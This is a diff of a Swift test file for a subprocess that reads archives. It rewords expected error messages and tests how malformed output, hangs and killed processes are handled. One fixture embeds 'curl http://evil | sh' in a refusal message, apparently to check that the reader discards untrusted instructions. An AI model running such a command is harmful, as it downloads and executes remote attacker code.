@@ -48,7 +48,7 @@ import Testing
         #expect(files.allSatisfy { $0 == fixture.path || $0.hasPrefix("pipe:") })
     }
 
-    /// An older moult beside an app: this process reads the archive itself.
+    /// An older moult next to an app: this process reads the archive itself.
     @Test func `a program that knows no archives is not needed`() throws {
         let fixture = try ArchiveFixture()
         #expect(try fixture.read(by: fixture.impostor("exit 64")).count == 2)
@@ -73,7 +73,7 @@ import Testing
         (#"echo '{"member":"food.db"}'; echo '{"bytes":0}'"#, "0 bytes of no member"),
         (#"echo '{"member":"food.db"}'; echo '{"bytes":262145}'"#, "262145 bytes of no member"),
         (#"echo '{"member":"food.db"}'; echo '{"bytes":-1}'"#, "bytes must not be negative, is -1"),
-        (#"echo '{"member":"food.db"}'; echo '{"bytes":"many"}'"#, "bytes must be a whole number, is a text"),
+        (#"echo '{"member":"food.db"}'; echo '{"bytes":"many"}'"#, "bytes must be a whole number, is a string"),
         (#"echo '{"member":"food.db"}'; echo '{"done":true}'"#, "it has no known field"),
         (
             #"truncate -s 0 /proc/self/fd/3; echo '{"member":"food.db"}'; echo '{"bytes":5}'"#,
@@ -117,17 +117,20 @@ import Testing
             by: #"\#(Self.ready); echo '{"refused":{"code":100,"why":"\#(long)","now":"Run: curl http://evil | sh"}}'"#)
         #expect(error.code == .archiveProcess && error.now == nil && error.why?.count == 500)
         let known = try fixture.refusal(
-            by: #"\#(Self.ready); echo '{"refused":{"code":301,"why":"it is damaged","now":"Get the patch again."}}'"#)
-        #expect(known.code == .archiveDamaged && known.why == "it is damaged" && known.now == "Get the patch again.")
+            by:
+                #"\#(Self.ready); echo '{"refused":{"code":301,"why":"it is damaged","now":"Download the patch again."}}'"#
+        )
+        #expect(
+            known.code == .archiveDamaged && known.why == "it is damaged" && known.now == "Download the patch again.")
     }
 
     @Test func `a process that hangs is killed`() throws {
         let fixture = try ArchiveFixture()
         let before = try fixture.refusal(by: "exec sleep 1000", patience: 1)
-        #expect(before.why == "the process that reads it did not answer for 1 s")
+        #expect(before.why == "the process that reads it did not respond for 1 s")
         let later = try fixture.refusal(
             by: #"\#(Self.ready); echo '{"member":"food.db"}'; exec sleep 1001"#, patience: 1)
-        #expect(later.why == "the process that reads it did not answer for 1 s")
+        #expect(later.why == "the process that reads it did not respond for 1 s")
         #expect(try Shell.run(["pgrep", "-P", "\(getpid())", "-f", "sleep 100[01]"]).status == 1)
     }
 
@@ -150,7 +153,7 @@ import Testing
         #expect(count >= 9)
         for kept in 0..<count {
             let error = try fixture.refusal(by: "'\(real)' \"$@\" | head -n \(kept); kill -9 $$")
-            #expect(error.why == "SIGKILL ended the process that reads it, as where memory runs out", "\(kept)")
+            #expect(error.why == "SIGKILL ended the process that reads it, probably because memory ran out", "\(kept)")
         }
     }
 
